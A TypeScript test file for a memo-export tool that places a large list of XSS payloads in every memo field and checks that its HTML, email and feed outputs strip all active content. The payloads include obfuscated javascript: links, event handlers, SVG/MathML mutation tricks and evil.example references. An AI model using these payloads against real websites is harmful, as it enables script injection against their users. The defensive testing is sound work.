// XSS: hostile payloads placed everywhere a memo can carry text — the body (as a block, inline
// in a paragraph, in a list item), the front-matter title with and without a `#` heading, the
// `#` heading, author, summary and tags — and in the bundle's title. For each, every HTML
// output (document, fragment, email, email fragment, bundle, email bundle, each JSON Feed
// item's content_html) is parsed with rehype-parse and walked: nothing active may be left.
// A few payloads also go end to end through the built CLI (`memo export`, `memo bundle`).
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { toText } from 'hast-util-to-text';
import { beforeAll, describe, expect, it } from 'vitest';
import { bundleFeed, bundleHtml } from '../../src/export/bundle.js';
import { exportHtml } from '../../src/export/html.js';
import { exportJson } from '../../src/export/json.js';
import { EMAIL_CSS, MEMO_CSS } from '../../src/export/style.css.js';

/** Our stylesheets: the built-in one and what --email adds (its layout). */
const OUR_CSS = `${MEMO_CSS}\n${EMAIL_CSS}`;
import { exportText } from '../../src/export/text.js';
import type { Memo } from '../../src/memo/model.js';
import { parseMemo } from '../../src/memo/parse.js';
import { loadMemoTypes } from '../../src/templates/load.js';
import { EXAMPLE, memo as cli, tempDir } from '../helpers/cli.js';
import { elements, parseHtml, safetyProblems, urlScheme } from '../helpers/html.js';

const types = loadMemoTypes();
const EXAMPLE_TEXT = readFileSync(EXAMPLE, 'utf8');

/** Payloads: [name, Markdown text]. Each is placed in every position below. */
export const PAYLOADS: readonly [string, string][] = [
  ['script tag', '<script>alert(1)</script>'],
  ['script tag, upper case, external', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, unclosed', '<img src="x" onerror="alert(1)"'],
  ['body onload', '<body onload=alert(1)>'],
  ['div onmouseover', '<div onmouseover="alert(1)">hover me</div>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['custom element onclick', '<x-evil onclick=alert(1)>click</x-evil>'],
  ['javascript: link', '[click](javascript:alert(1))'],
  ['mixed-case JaVaScRiPt: link', '[click](JaVaScRiPt:alert(1))'],
  ['decimal entity &#106;avascript: link', '[click](&#106;avascript:alert(1))'],
  ['hex entity &#x6A;avascript: link', '[click](&#x6A;avascript:alert(1))'],
  ['fully entity-encoded javascript: link', '[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))'],
  ['java<TAB>script: link', '[click](<java\tscript:alert(1)>)'],
  ['java&#x09;script: link', '[click](java&#x09;script:alert(1))'],
  ['&colon; link', '[click](javascript&colon;alert(1))'],
  ['control character before javascript:', '[click](\u0001javascript:alert(1))'],
  ['vbscript: link', '[click](vbscript:msgbox(1))'],
  ['data: link', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['javascript: image', '![pic](javascript:alert(1))'],
  ['data: SVG image', '![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)'],
  ['image src breaking out', '![pic](x" onerror="alert(1))'],
  ['reference-style javascript: link', '[click][evil] and ![pic][evil]\n\n[evil]: javascript:alert(1)'],
  ['reference-style JaVaScRiPt: with entity', '[click][evil2]\n\n[evil2]: &#x4A;aVaScRiPt:alert(1) "title"'],
  ['autolink javascript:', '<javascript:alert(1)>'],
  ['autolink vbscript:', '<vbscript:msgbox(1)>'],
  ['raw HTML javascript: link', '<a href="javascript:alert(1)">raw link</a>'],
  ['raw HTML entity-encoded link', '<a href="&#x6A;avascript&#x3A;alert(1)">raw link</a>'],
  ['SVG onload', '<svg onload=alert(1)><circle r="10"/></svg>'],
  ['SVG script and xlink:href', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['MathML mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['iframe', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="javascript:alert(1)">'],
  ['base href', '<base href="javascript:alert(1)//">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['form action', '<form action="javascript:alert(1)"><input type=submit></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">go</button>'],
  ['isindex action', '<isindex action=javascript:alert(1) type=image>'],
  ['link stylesheet', '<link rel=stylesheet href="javascript:alert(1)">'],
  ['attribute breaking "><script>', '"><script>alert(1)</script>'],
  ["attribute breaking '><img>", "'><img src=x onerror=alert(1)>"],
  ['attribute breaking in a link title', '[x](https://example.org "a\\" onmouseover=\\"alert(1)")'],
  ['style url(javascript:)', '<p style="background:url(javascript:alert(1))">styled</p>'],
  ['style expression()', '<div style="width: expression(alert(1))">styled</div>'],
  ['style behavior:', '<div style="behavior: url(x.htc)">styled</div>'],
  ['<style> block with url(javascript:)', '<style>body { background: url("javascript:alert(1)") }</style>'],
  ['<style> block with @import and expression', "<style>@import 'javascript:alert(1)'; p { width: expression(alert(1)) }</style>"],
  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['template with script', '<template><script>alert(1)</script></template>'],
  ['comment breakout', '<!--><script>alert(1)</script>-->'],
  ['video source onerror', '<video><source onerror=alert(1)></video>'],
  ['script in inline code', '`<script>alert(1)</script>`'],
  ['template injection {{ }}', "{{constructor.constructor('alert(1)')()}} {{title}} {{7*7}}"],
  // Raw HTML is parsed (rehype-raw) before it is sanitized: what only a real parse would see.
  ['raw link in capitals, with a handler', '<a href="HTTPS://example.org/" onclick="alert(1)">ok</a>'],
  ['raw JAVASCRIPT: link in capitals', '<a href="JAVASCRIPT:alert(1)">raw link</a>'],
  ['raw link with a leading space', '<a href=" javascript:alert(1)">raw link</a>'],
  ['raw link with an entity colon', '<a href="javascript&#58;alert(1)">raw link</a>'],
  ['raw link with a newline entity', '<a href="java&#x0A;script:alert(1)">raw link</a>'],
  ['raw link with zero-padded entity', '<a href="&#0000106avascript:alert(1)">raw link</a>'],
  ['unsafe link inside an unwrapped element', '<center><a href="javascript:alert(1)">centred</a></center>'],
  ['checkbox input with a handler', '<input type="checkbox" onclick="alert(1)">'],
  ['picture source srcset', '<picture><source srcset="javascript:alert(1)"><img src="x" srcset="javascript:alert(2)"></picture>'],
  ['cite with a script URL', '<q cite="javascript:alert(1)">quoted</q> <blockquote cite="javascript:alert(2)">q</blockquote>'],
  ['action on an allowed element', '<div action="javascript:alert(1)">div</div>'],
  ['table cell background', '<table><tr><td background="javascript:alert(1)">cell</td></tr></table>'],
  ['noscript style mutation', '<p><noscript><style></noscript><img src=x onerror=alert(1)>'],
  ['SVG animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
  ['DOM clobbering names and ids', '<img name="getElementById" src="x"><a id="top" name="location" href="#top">top</a>'],
  ['unclosed script block', '<script>\nalert(1)\n\nstill the script'],
  ['inline script across emphasis', 'a <script>alert(1) *b* </script> c'],
];

/** A YAML double-quoted scalar holding exactly `text`. */
const yaml = (text: string): string => JSON.stringify(text);

/** The payload in every position of one memo: body block, inline, list item, title, heading, author, summary, tags. */
function everywhere(payload: string): string {
  return [
    '---',
    'type: rapid-response',
    `title: ${yaml(`Hostile ${payload}`)}`,
    'date: 2019-12-30',
    `author: ${yaml(payload)}`,
    `summary: ${yaml(`Summary ${payload}`)}`,
    `tags: [${yaml(payload)}, safe]`,
    '---',
    '',
    `# Memo: Hostile ${payload}`,
    '',
    `A lede with the payload inline: ${payload} and after it.`,
    '',
    payload,
    '',
    '## Key Takeaways',
    '',
    `- A takeaway with ${payload} in it.`,
    `- ${payload}`,
    '- A plain takeaway.',
    '',
    '## Sequence of Events',
    '',
    `- **Dec. 27, 2019** — An event with ${payload} in it.`,
    '',
    '[Back to top](#top)',
    '',
  ].join('\n');
}

/** The payload only in the front matter: with no `#` heading, the front-matter title becomes the title. */
function frontMatterOnly(payload: string): string {
  return [
    '---',
    'type: statement',
    `title: ${yaml(payload)}`,
    'date: 2019-12-31',
    `author: ${yaml(payload)}`,
    `summary: ${yaml(payload)}`,
    `tags: ${yaml(payload)}`,
    '---',
    '',
    'A statement.',
    '',
  ].join('\n');
}

/** The payload in the `#` heading only. */
function headingOnly(payload: string): string {
  return ['---', 'type: statement', 'title: Plain', 'date: 2019-12-31', '---', '', `# ${payload}`, '', 'A statement.', ''].join('\n');
}

function load(text: string, path: string): Memo {
  return parseMemo(text, { path, types });
}

// The HTML is read the way a browser reads it (rehype-parse follows the HTML standard's parser),
// so `<script` inside a quoted attribute value, which is only text, is not a finding.
const safeDocument = (html: string, email: boolean): string[] =>
  safetyProblems(parseHtml(html), { stylesheet: OUR_CSS, styleAttributes: email });
const safeFragment = (html: string, email: boolean): string[] =>
  safetyProblems(parseHtml(html, true), { stylesheet: OUR_CSS, styleAttributes: email });

/** Every HTML output of these memos (and a bundle titled `bundleTitle`), with what is wrong in each. */
function problemsOf(memos: Memo[], bundleTitle: string): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  // Every mode for the memo holding the payload everywhere; the others (payload in titles
  // only) in the modes where titles differ. The inliner only adds our styles to any of them.
  for (const [index, memo] of memos.entries()) {
    out[`memo ${index} document`] = safeDocument(exportHtml(memo), false);
    out[`memo ${index} fragment`] = safeFragment(exportHtml(memo, { fragment: true }), false);
    if (index > 0) continue;
    out[`memo ${index} email`] = safeDocument(exportHtml(memo, { email: true }), true);
    out[`memo ${index} email fragment`] = safeFragment(exportHtml(memo, { email: true, fragment: true }), true);
  }
  out['bundle'] = safeDocument(bundleHtml(memos, { title: bundleTitle }), false);
  out['email bundle'] = safeDocument(bundleHtml(memos, { title: bundleTitle, email: true }), true);
  const feed = JSON.parse(bundleFeed(memos, { title: bundleTitle })) as { title: string; items: { id: string; content_html: string }[] };
  for (const item of feed.items) out[`feed item ${item.id}`] = safeFragment(item.content_html, false);
  return Object.fromEntries(Object.entries(out).filter(([, problems]) => problems.length > 0));
}

describe('the safety checks themselves', () => {
  // The checks must be able to fail: each of these trees carries one active thing.
  const unsafe: [string, string, boolean][] = [
    ['script', '<script>alert(1)</script>', false],
    ['onerror', '<img src=x onerror=alert(1)>', false],
    ['javascript: href', '<a href="javascript:alert(1)">x</a>', false],
    ['entity-encoded javascript: href', '<a href="&#x6A;ava&#x09;script&colon;alert(1)">x</a>', false],
    ['mixed-case href with a control character', '<a href="\u0001JaVaScRiPt:alert(1)">x</a>', false],
    ['data: src', '<img src="data:image/svg+xml;base64,PHN2Zz4=">', false],
    ['vbscript: action', '<form action="vbscript:msgbox(1)"></form>', false],
    ['formaction', '<p><button formaction="javascript:alert(1)">x</button></p>', false],
    ['xlink:href', '<svg><a xlink:href="javascript:alert(1)"></a></svg>', false],
    ['iframe', '<iframe src="https://evil.example/"></iframe>', false],
    ['base', '<base href="https://evil.example/">', false],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', false],
    ['style attribute outside email', '<p style="color: red">x</p>', false],
    ['foreign declaration in email', '<p style="position: fixed">x</p>', true],
    ['expression() in email style', '<p style="width: expression(alert(1))">x</p>', true],
    ['url(javascript:) in email style', '<p style="background: url(javascript:alert(1))">x</p>', true],
    ['CSS-escaped javascript in a <style>', '<style>p { background: url(\\6a avascript:alert(1)) }</style>', false],
    ['behavior: in a <style>', '<style>p { behavior: url(x.htc) }</style>', false],
  ];
  for (const [name, html, email] of unsafe) {
    it(`finds ${name}`, () => {
      expect(safetyProblems(parseHtml(html, true), { stylesheet: OUR_CSS, styleAttributes: email })).not.toEqual([]);
    });
  }

  it('passes our own email output, and reads schemes the way browsers do', () => {
    const example = load(EXAMPLE_TEXT, 'example.md');
    expect(safetyProblems(parseHtml(exportHtml(example, { email: true })), { stylesheet: OUR_CSS, styleAttributes: true })).toEqual([]);
    expect(urlScheme(' \tJaVa&#x0A;ScRiPt&colon;alert(1)')).toBe('javascript');
    expect(urlScheme('https://example.org/?a=javascript:')).toBe('https');
    expect(urlScheme('#top')).toBeUndefined();
  });
});

describe(`XSS: ${PAYLOADS.length} payloads in every position, through every HTML output`, () => {
  it('has at least 30 payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
  });

  for (const [name, payload] of PAYLOADS) {
    it(name, () => {
      const memos = [
        load(everywhere(payload), 'memos/everywhere.md'),
        load(frontMatterOnly(payload), 'memos/front-matter-only.md'),
        load(headingOnly(payload), 'memos/heading-only.md'),
      ];
      // The payload really is where we put it (as data), so the outputs below are tested on it.
      expect(memos[0]?.title).toBe(`Hostile ${payload}`);
      expect(memos[0]?.author).toBe(payload);
      expect(memos[1]?.title).toBe(payload);
      expect(memos[1]?.tags.length).toBeGreaterThan(0);
      expect(problemsOf(memos, `Issue ${payload}`)).toEqual({});
    });
  }
});

describe('XSS: front-matter strings and titles are text, not markup', () => {
  const payload = '</title><script>alert(1)</script><img src=x onerror=alert(1)> & "quotes"';
  const memo = load(frontMatterOnly(payload), 'memos/front-matter-only.md');

  it('shows the title, author and summary as written, in <title>, <h1> and <meta>', () => {
    const tree = parseHtml(exportHtml(memo));
    const [title] = elements(tree, (node) => node.tagName === 'title');
    expect(title && toText(title)).toBe(payload);
    const [h1] = elements(tree, (node) => node.tagName === 'h1');
    expect(h1 && toText(h1)).toBe(payload);
    expect(h1?.children.every((child) => child.type === 'text')).toBe(true);
    const meta = elements(tree, (node) => node.tagName === 'meta' && typeof node.properties['name'] === 'string');
    expect(Object.fromEntries(meta.map((node) => [node.properties['name'], node.properties['content']]))).toMatchObject({
      author: payload,
      description: payload,
    });
  });

  it('shows a bundle title as written, in <title> and the issue <h1>, and in the feed title', () => {
    const tree = parseHtml(bundleHtml([memo], { title: payload }));
    const [title] = elements(tree, (node) => node.tagName === 'title');
    expect(title && toText(title)).toBe(payload);
    const [issue] = elements(tree, (node) => node.tagName === 'header' && node.properties['id'] === 'top');
    const [h1] = issue ? elements(issue, (node) => node.tagName === 'h1') : [];
    expect(h1 && toText(h1)).toBe(payload);
    expect(h1?.children.every((child) => child.type === 'text')).toBe(true);
    expect((JSON.parse(bundleFeed([memo], { title: payload })) as { title: string }).title).toBe(payload);
  });

  it('keeps {{ }} as literal text everywhere (no template is evaluated)', () => {
    const injected = load(everywhere("{{constructor.constructor('alert(1)')()}} {{7*7}}"), 'memos/template.md');
    expect(exportText(injected)).toContain("{{constructor.constructor('alert(1)')()}} {{7*7}}");
    expect(exportText(injected)).not.toContain('49');
    expect(JSON.stringify(exportJson(injected))).toContain('{{7*7}}');
    expect(toText(parseHtml(exportHtml(injected)))).toContain('{{7*7}}');
  });
});

// ---------------------------------------------------------------------------------------------
// End to end, through the built CLI

describe('XSS end to end through the built CLI', () => {
  const CLI_PAYLOADS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '[click](JaVaScRiPt:alert(1))',
    '<svg onload=alert(1)>',
    '<style>body{background:url(javascript:alert(1))}</style>',
    '"><script>alert(1)</script>',
  ];
  let dir = '';
  let files: string[] = [];

  beforeAll(() => {
    dir = tempDir('memokit-xss-');
    files = CLI_PAYLOADS.map((payload, index) => {
      const file = join(dir, `hostile-${index}.md`);
      writeFileSync(file, everywhere(payload));
      return file;
    });
  });

  // The script payload sits on these lines of everywhere(): the `#` heading, the lede (inline,
  // then as a block), two takeaways and an event. Each is removed, and said so, with its line.
  const SCRIPT_WARNINGS = [10, 12, 14, 18, 19, 24].map(
    (line) => `memo: warning: hostile-0.md:${line}: removed <script> and its content (not allowed in exported HTML)`,
  );
  /** stderr: nothing but warnings, one line each, naming a hostile memo and a line (and a batch's summary line). */
  const onlyWarnings = (stderr: string): string[] => {
    const lines = stderr.split('\n').filter((line) => line !== '' && !/^\d+ memos? written to /.test(line));
    for (const line of lines)
      expect(line).toMatch(/^memo: warning: hostile-\d\.md:\d+: \S.*\(.*\)$|^memo: warning: hostile-\d\.md:\d+: dropped /);
    return lines;
  };

  it('memo export --to html (document, --fragment, --email) lets nothing active through', () => {
    // One memo to stdout, as a user runs it; then every memo, in each mode, into --out-dir.
    const one = cli(['export', files[0] ?? '', '--to', 'html'], { cwd: dir });
    expect(onlyWarnings(one.stderr)).toEqual(SCRIPT_WARNINGS);
    expect(one.status).toBe(0);
    expect(safeDocument(one.stdout, false)).toEqual([]);
    for (const [mode, flags, fragment, email] of [
      ['document', [], false, false],
      ['fragment', ['--fragment'], true, false],
      ['email', ['--email'], false, true],
    ] as const) {
      const out = join(dir, `out-${mode}`);
      const result = cli(['export', ...files, '--to', 'html', '--out-dir', out, ...flags], { cwd: dir });
      const warnings = onlyWarnings(result.stderr);
      expect(warnings.filter((line) => line.includes('hostile-0.md:'))).toEqual(SCRIPT_WARNINGS);
      // Every hostile memo is warned about: each payload had something to remove.
      expect(new Set(warnings.map((line) => /hostile-\d/.exec(line)?.[0]))).toEqual(new Set(files.map((_, index) => `hostile-${index}`)));
      expect(result.status).toBe(0);
      for (const [index] of files.entries()) {
        const html = readFileSync(join(out, `hostile-${index}.html`), 'utf8');
        expect(fragment ? safeFragment(html, email) : safeDocument(html, email), `${mode}: ${CLI_PAYLOADS[index]}`).toEqual([]);
      }
    }
  });

  it("memo bundle --title '<script>…' (HTML, --email, --to json) lets nothing active through", () => {
    const title = '<script>alert("title")</script><img src=x onerror=alert(1)>';
    const html = cli(['bundle', ...files, '--title', title], { cwd: dir });
    expect(html.status).toBe(0);
    expect(safeDocument(html.stdout, false)).toEqual([]);
    expect(elements(parseHtml(html.stdout), (node) => node.tagName === 'title').map((node) => toText(node))).toEqual([title]);

    const email = cli(['bundle', ...files, '--title', title, '--email'], { cwd: dir });
    expect(email.status).toBe(0);
    expect(safeDocument(email.stdout, true)).toEqual([]);

    const json = cli(['bundle', ...files, '--title', title, '--to', 'json'], { cwd: dir });
    expect(json.status).toBe(0);
    const feed = JSON.parse(json.stdout) as { title: string; items: { content_html: string }[] };
    expect(feed.title).toBe(title);
    expect(feed.items).toHaveLength(files.length);
    for (const item of feed.items) expect(safeFragment(item.content_html, false)).toEqual([]);
  });
});
